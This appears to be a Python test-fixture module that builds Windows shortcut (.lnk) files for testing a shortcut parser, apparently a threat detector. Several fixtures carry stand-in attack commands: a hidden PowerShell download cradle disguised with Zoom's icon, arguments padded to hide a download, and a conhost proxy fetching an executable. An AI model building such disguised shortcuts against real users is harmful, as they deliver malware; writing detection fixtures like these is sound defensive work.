"""Windows shortcuts built with pylnk3 (a real .lnk writer), plus a hand-assembled LinkInfo variant.

pylnk3 is a test-only dependency: the product parses shortcuts with its own MS-SHLLINK reader.
"""

from __future__ import annotations

import io
import struct

import pylnk3

POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
ZOOM_ICON = r"C:\Program Files\Zoom\bin\Zoom.exe"
CRADLE = "-w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('https://us05web-zoom.invalid/fix.ps1')\""


def _bytes(lnk: pylnk3.Lnk) -> bytes:
    buf = io.BytesIO()
    lnk.write(buf)
    return buf.getvalue()


def build(
    target: str,
    *,
    arguments: str | None = None,
    description: str | None = None,
    icon: str | None = None,
    work_dir: str | None = None,
    window_mode: str | None = None,
) -> bytes:
    """A shortcut to ``target`` (local path: LinkTargetIDList; UNC path: EnvironmentVariableDataBlock)."""
    lnk = pylnk3.for_file(
        target,
        arguments=arguments,
        description=description,
        icon_file=icon,
        work_dir=work_dir,
        window_mode=window_mode,
    )
    return _bytes(lnk)


def zoom_lure() -> bytes:
    """The THREATS.md shortcut: powershell with a hidden download cradle, Zoom's icon and description."""
    return build(
        POWERSHELL,
        arguments=CRADLE,
        description="Zoom audio driver update",
        icon=ZOOM_ICON,
        work_dir=r"C:\Windows\System32",
        window_mode=pylnk3.WINDOW_MINIMIZED,
    )


def benign_document() -> bytes:
    """An ordinary shortcut to a document."""
    return build(r"C:\Users\alice\Documents\Quarterly report.docx", description="Quarterly report")


def with_local_link_info(path: str = r"C:\Users\alice\Documents\notes.txt") -> bytes:
    """A shortcut whose target lives only in LinkInfo (VolumeID + LocalBasePath), like Windows writes for
    files on fixed drives; pylnk3's own LinkInfo writer is used."""
    lnk = pylnk3.create()
    lnk.link_flags.IsUnicode = True
    info = pylnk3.LinkInfo()
    info.local = 1
    info.remote = 0
    info.drive_type = pylnk3.DRIVE_FIXED
    info.drive_serial = 0x1234ABCD
    info.volume_label = "OS"
    info.local_base_path = path
    lnk.link_info = info
    lnk.link_flags.HasLinkInfo = True
    return _bytes(lnk)


def padded_arguments() -> bytes:
    """Arguments pushed out of Explorer's properties box by 300 leading spaces."""
    return build(r"C:\Windows\System32\cmd.exe", arguments=" " * 300 + "/c start https://a.invalid/x.exe")


def conhost_proxy() -> bytes:
    """conhost.exe --headless starting powershell: the interpreter is named only in the arguments."""
    return build(
        r"C:\Windows\System32\conhost.exe",
        arguments="--headless powershell -c iwr https://a.invalid/p -OutFile $env:TEMP\\p.exe",
    )


def header_only() -> bytes:
    """Just the 76-byte header with every "has ..." flag set: all the structures it promises are missing."""
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return struct.pack("<I", 0x4C) + clsid + struct.pack("<I", 0xFF) + b"\x00" * (0x4C - 24)
